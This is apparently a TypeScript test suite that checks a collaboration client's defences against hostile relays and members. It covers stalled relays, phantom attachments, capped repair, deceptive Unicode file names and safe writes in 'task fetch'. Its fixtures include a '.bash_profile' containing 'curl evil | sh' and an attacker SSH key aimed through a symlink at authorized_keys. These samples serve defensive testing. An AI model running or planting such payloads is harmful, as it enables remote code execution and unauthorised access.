// Documents against hostile relays and hostile members (issue 23 hardening):
// a relay that greets but never answers a fetch, first in the list, is passed
// over after the stall time, for a fetch and for a move's copy; attachments
// whose chunks were never posted cost a move one wait, not one each; a relay
// that always claims to lack chunks and never acks gets a bounded repair that
// no fetch waits for; the lacked list of a long fetch does not grow with the
// rounds; file names hiding characters or too long for a disk are refused by
// the attacher and by every reader; `task fetch` writes no dotfile without
// --out and never over or through what is at the path (a dangling symlink).
// Real relays (stores wrapped to go mute, withhold or swallow), real
// WebSockets, real libsodium.
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { RelayClient } from "../src/cwtch/relay-client.js";
import { MemoryRelayStore } from "../src/cwtch/relay-memory-store.js";
import { startRelay, type RelayServer } from "../src/cwtch/relay-server.js";
import type { RelayStore } from "../src/cwtch/relay-store.js";
import { taskCreateBody } from "../src/pursuance/actions.js";
import { PursuanceClient } from "../src/pursuance/client/client.js";
import { ChunkMissingError, copyFiles, documents, fetchChunks, REPAIR_MAX_CHUNKS, type TransferHost } from "../src/pursuance/client/file-transfer.js";
import { fileNameProblem, sealFile, sealMeta } from "../src/pursuance/files.js";
import { decodeInvite, encodeInvite } from "../src/pursuance/invite.js";
import { openContentKey } from "../src/pursuance/task-crypto.js";
import { FILE_SUBS } from "../src/cli/client-file-commands.js";
import { UsageError } from "../src/cli/usage.js";
import { clientEnv } from "../src/usecases/env.js";
import { attachFile, fetchFile, FileCorruptError, listFiles } from "../src/usecases/files.js";
import { identity, ports, until } from "./helpers/pursuance-node.js";
import { seededBytes as randomBytes } from "./helpers/bytes.js";

const opts = { fallbackDutyMs: 500, repairDelayMs: 50, repairIntervalMs: 300 };

/** A real relay whose store can go mute (chunk fetches never answered), lack everything asked by tag, or swallow posts. */
interface OddRelay {
  server: RelayServer;
  mute: boolean;
  lack: boolean;
  swallow: boolean;
  /** Frames of the largest size (chunks) appended since last reset. */
  appended: number;
}

async function oddRelay(): Promise<OddRelay> {
  const inner = new MemoryRelayStore();
  const b = { mute: false, lack: false, swallow: false, appended: 0 } as OddRelay;
  const store = new Proxy(inner, {
    get(t, k) {
      if (k === "range") {
        return async (since: number, tags: ReadonlySet<string> | null, limit: number) => {
          if (tags && b.mute) return new Promise(() => undefined);
          if (tags && b.lack) return [];
          return t.range(since, tags, limit);
        };
      }
      if (k === "appendNow") return undefined;
      if (k === "append") {
        return async (...a: Parameters<MemoryRelayStore["append"]>) => {
          if (b.swallow) return new Promise(() => undefined);
          if (a[1].length > 60_000) b.appended++;
          return t.append(...a);
        };
      }
      const v = Reflect.get(t, k) as unknown;
      return typeof v === "function" ? (v as (...a: unknown[]) => unknown).bind(t) : v;
    },
  }) as RelayStore;
  b.server = await startRelay({ store });
  return b;
}

describe("documents against hostile relays and members", () => {
  const clients: PursuanceClient[] = [];
  const relays: OddRelay[] = [];
  afterAll(async () => {
    for (const c of clients) c.close();
    for (const r of relays) await r.server.close().catch(() => undefined);
  });

  let odd: OddRelay, honest: OddRelay;
  let ada: PursuanceClient, bob: PursuanceClient;
  let all: PursuanceClient[];
  let taskId: string;

  async function setup(): Promise<void> {
    if (ada) return;
    odd = await oddRelay();
    honest = await oddRelay();
    relays.push(odd, honest);
    ada = await PursuanceClient.create(await ports(), await identity(), { name: "Records", founderName: "ada", relays: [odd.server.url, honest.server.url], ...opts });
    clients.push(ada);
    bob = await PursuanceClient.join(await ports(), await identity(), decodeInvite(encodeInvite(await ada.createInvite("change agent"))), "bob", opts);
    clients.push(bob);
    all = [ada, bob];
    await until("two members", () => all.every((c) => c.state.members.size === 2), all);
    await ada.publish((s) => taskCreateBody(ada.actor, s, { text: { title: "FOIA: police budget", deliverables: "" }, readers: ["change agent"] }));
    await until("the task", () => all.every((c) => c.state.tasks.size === 1), all);
    taskId = ada.state.taskIds[0]!;
  }

  /** Bob's transfers with a relay client that waits as long as a real one (30 s per request). */
  async function patient(urls: string[]): Promise<TransferHost> {
    const p = await ports();
    return { ports: { ...p, connect: (url) => new RelayClient({ url, crypto: p.crypto, minBackoffMs: 50, maxBackoffMs: 500, requestTimeoutMs: 30_000 }) }, relays: urls };
  }

  /** An attach whose chunks were never posted (any member who may attach can publish one). */
  async function phantom(name: string, size: number): Promise<string> {
    const t = bob.state.tasks.get(taskId)!;
    const ck = openContentKey(bob.crypto, bob.ring, bob.identity, bob.me, t)!;
    const f = sealFile(bob.crypto, name, new Uint8Array(size));
    const { id } = await bob.publish({ t: "task.attach", task: taskId, ...f.ref, meta: sealMeta(bob.crypto, ck, f.meta) });
    return id;
  }

  it("a relay that greets and never answers a fetch, first in the list, is passed over after the stall time: the fetch and a move's copy take the chunks from the honest one", async () => {
    await setup();
    const bytes = randomBytes(200_000, 7);
    const r = await attachFile(clientEnv(ada), { task: "#1", name: "doc.bin", bytes });
    await until("bob sees the file", () => (bob.state.tasks.get(taskId)!.files ?? []).length === 1, all);
    const f = bob.state.tasks.get(taskId)!.files![0]!;
    odd.mute = true;
    try {
      const host = await patient([odd.server.url, honest.server.url]);
      const t0 = Date.now();
      const got = await fetchChunks(host, f, "doc.bin", { timeoutMs: 20_000, stallMs: 1_000 });
      expect(got.blobs).toHaveLength(f.chunks);
      expect(Date.now() - t0).toBeLessThan(4_000); // the stall time, not the whole wait (20 s)
      const fresh = await oddRelay();
      relays.push(fresh);
      const t1 = Date.now();
      const copied = await copyFiles(host, documents(bob.state), fresh.server.url, { stallMs: 1_000 });
      expect(copied).toEqual({ chunks: f.chunks, missing: [] });
      expect(Date.now() - t1).toBeLessThan(6_000);
      // The new relay alone now serves the file.
      expect((await fetchChunks(host, f, "doc.bin", { relays: [fresh.server.url], timeoutMs: 5_000 })).blobs).toHaveLength(f.chunks);
    } finally {
      odd.mute = false;
    }
    expect(r.file.chunks).toBe(f.chunks);
  }, 60_000);

  it("attachments whose chunks no relay holds cost a move's copy one wait together, not one each; a real file among them is still copied", async () => {
    await setup();
    const N = 6;
    for (let i = 0; i < N; i++) await phantom(`p${i}.txt`, 0);
    await until("ada sees the phantoms", () => (ada.state.tasks.get(taskId)!.files ?? []).length === 1 + N, all);
    const fresh = await oddRelay();
    relays.push(fresh);
    const docs = documents(ada.state);
    const t0 = Date.now();
    const r = await copyFiles(ada, docs, fresh.server.url, { timeoutMs: 3_000 });
    const ms = Date.now() - t0;
    expect(r.missing).toEqual(docs.slice(1).map((d) => d.id));
    expect(r.chunks).toBe(docs[0]!.chunks);
    expect(ms).toBeLessThan(8_000); // one file after another: N × 3 s = 18 s
  }, 60_000);

  it("a relay that always claims to lack chunks and never acks them: the fetch does not wait for its repair, and at most REPAIR_MAX_CHUNKS go back to it per fetch", async () => {
    await setup();
    const chunks = REPAIR_MAX_CHUNKS + 6;
    const bytes = randomBytes(chunks * 65532, 11);
    await attachFile(clientEnv(ada), { task: "#1", name: "big.bin", bytes });
    await until("bob sees it", () => (bob.state.tasks.get(taskId)!.files ?? []).some((x) => x.size === bytes.length), all);
    const n = bob.state.tasks.get(taskId)!.files!.findIndex((x) => x.size === bytes.length) + 1;
    odd.lack = true;
    odd.swallow = true;
    try {
      const t0 = Date.now();
      const got = await fetchFile(clientEnv(bob), { task: "#1", file: String(n), timeoutMs: 20_000 });
      expect(Date.now() - t0).toBeLessThan(5_000); // the repair wait is 10 s
      expect(Buffer.compare(Buffer.from(got.bytes), Buffer.from(bytes))).toBe(0);
      expect(got.repaired).toEqual({ [odd.server.url]: REPAIR_MAX_CHUNKS });
      // Now it takes the re-posts, and still claims to lack them: each fetch sends it at most the cap.
      odd.swallow = false;
      // The first fetch's re-posts, re-sent by the relay client, land now; the fetch returned long before.
      expect((await got.repairs)[odd.server.url] ?? 0).toBeLessThanOrEqual(REPAIR_MAX_CHUNKS);
      odd.appended = 0;
      const f = bob.state.tasks.get(taskId)!.files![n - 1]!;
      const again = await fetchChunks(bob, f, "big.bin", { timeoutMs: 20_000 });
      expect(again.repaired).toEqual({ [odd.server.url]: REPAIR_MAX_CHUNKS });
      expect(await again.repairs).toEqual({ [odd.server.url]: REPAIR_MAX_CHUNKS });
      expect(odd.appended).toBe(REPAIR_MAX_CHUNKS);
    } finally {
      odd.lack = false;
      odd.swallow = false;
    }
  }, 90_000);

  it("a long fetch of a file no relay holds keeps one entry per chunk a relay lacked, however many rounds", async () => {
    await setup();
    await phantom("ghost.bin", 10 * 65532);
    await until("ada sees it", () => (ada.state.tasks.get(taskId)!.files ?? []).some((x) => x.size === 10 * 65532), all);
    const f = ada.state.tasks.get(taskId)!.files!.find((x) => x.size === 10 * 65532)!;
    const held: Array<{ size?: number; length?: number }> = [];
    const orig = Map.prototype.set;
    Map.prototype.set = function (this: Map<unknown, unknown>, k: unknown, v: unknown) {
      if (k instanceof RelayClient && v && typeof v === "object") held.push(v as { size?: number; length?: number });
      return orig.call(this, k, v);
    } as typeof orig;
    let err: unknown;
    try {
      await fetchChunks(ada, f, "ghost.bin", { timeoutMs: 2_000, retryMs: 1 });
    } catch (e) {
      err = e;
    } finally {
      Map.prototype.set = orig;
    }
    expect(err).toBeInstanceOf(ChunkMissingError);
    expect(held.length).toBeGreaterThan(0);
    for (const v of held) expect(v.size ?? v.length).toBeLessThanOrEqual(f.chunks);
  }, 30_000);

  it("file names: invisible, format, separator and surrogate characters, and over 255 bytes of UTF-8, are refused by the attacher and by every reader", async () => {
    await setup();
    for (const bad of ["gpj.\u061Cexe.photo", "invoice\u200B.pdf", "invoice\u200D.pdf", "invoice\u2060.pdf", "\uFEFFinvoice.pdf", "a.pdf\u2028b.exe", "a.pdf\u2029b.exe", "invoice\u180E.pdf", "x\uD800.pdf", "x\uE000.pdf", "a\u202egnp.exe", "tab\there"]) {
      expect(fileNameProblem(bad), JSON.stringify(bad)).not.toBeNull();
    }
    expect(fileNameProblem("é".repeat(250) + ".pdf")).toMatch(/255 bytes/);
    expect(fileNameProblem("é".repeat(127))).toBeNull(); // 254 bytes
    for (const ok of ["budget 2026.pdf", "Haushalt–Übersicht.ods", "报告.docx", "ملف.txt", "résumé (final).pdf"]) expect(fileNameProblem(ok), ok).toBeNull();
    for (const bad of [".", "..", "a/b", "a\\b", ""]) expect(fileNameProblem(bad), bad).not.toBeNull();
    await expect(attachFile(clientEnv(bob), { task: "#1", name: "report\u200B.pdf", bytes: new Uint8Array(3) })).rejects.toThrow(/invisible/);
    // A client that skipped the check: every reader finds the meta unreadable.
    const before = (ada.state.tasks.get(taskId)!.files ?? []).length;
    await phantom("report\u200B.pdf", 0);
    await until("ada sees it", () => (ada.state.tasks.get(taskId)!.files ?? []).length === before + 1, all);
    expect(listFiles(clientEnv(ada), { task: "#1" }).files.at(-1)!.name).toBeNull();
    await expect(fetchFile(clientEnv(ada), { task: "#1", file: String(before + 1) })).rejects.toBeInstanceOf(FileCorruptError);
  }, 30_000);

  it("task fetch writes no dotfile without --out, and nothing over or through what is at the path (a dangling symlink), unless --out with --force", async () => {
    await setup();
    await attachFile(clientEnv(bob), { task: "#1", name: ".bash_profile", bytes: new TextEncoder().encode("curl evil | sh\n") });
    await attachFile(clientEnv(bob), { task: "#1", name: "notes.txt", bytes: new TextEncoder().encode("ssh-ed25519 AAAA attacker\n") });
    await until("ada sees both", () => (ada.state.tasks.get(taskId)!.files ?? []).some((x) => x.size === 26), all);
    const root = mkdtempSync(join(tmpdir(), "pursuance-fetch-"));
    mkdirSync(join(root, "repo"));
    mkdirSync(join(root, "victim"));
    symlinkSync("../victim/authorized_keys", join(root, "repo", "notes.txt"));
    const lines: string[] = [];
    const io = { out: (l: string) => lines.push(l), err: (l: string) => lines.push(l) };
    const fetch = (values: Record<string, unknown>, file: string) => FILE_SUBS.fetch!({ values, positionals: ["fetch", "#1", file] } as never)(ada as never, io);
    const cwd = process.cwd();
    process.chdir(join(root, "repo"));
    try {
      const dot = await fetch({}, ".bash_profile").catch((e: unknown) => e);
      expect(dot).toBeInstanceOf(UsageError);
      expect((dot as Error).message).toMatch(/"\.bash_profile".*pass --out PATH/);
      expect(existsSync(".bash_profile")).toBe(false);
      await fetch({ out: "profile.txt" }, ".bash_profile");
      expect(readFileSync("profile.txt", "utf8")).toContain("evil");

      const link = await fetch({}, "notes.txt").catch((e: unknown) => e);
      expect(link).toBeInstanceOf(UsageError);
      expect((link as Error).message).toMatch(/notes\.txt exists/);
      expect(existsSync(join(root, "victim", "authorized_keys"))).toBe(false);
      expect(lstatSync("notes.txt").isSymbolicLink()).toBe(true);

      // --out over something there: refused, naming --force; with --force, written.
      writeFileSync("mine.txt", "mine");
      const over = await fetch({ out: "mine.txt" }, "notes.txt").catch((e: unknown) => e);
      expect((over as Error).message).toMatch(/mine\.txt exists.*--force/);
      expect(readFileSync("mine.txt", "utf8")).toBe("mine");
      await fetch({ out: "mine.txt", force: true }, "notes.txt");
      expect(readFileSync("mine.txt", "utf8")).toContain("attacker");
      expect(() => FILE_SUBS.fetch!({ values: { force: true }, positionals: ["fetch", "#1", "notes.txt"] } as never)).toThrow(/--force .*--out/);
    } finally {
      process.chdir(cwd);
    }
  }, 30_000);
});
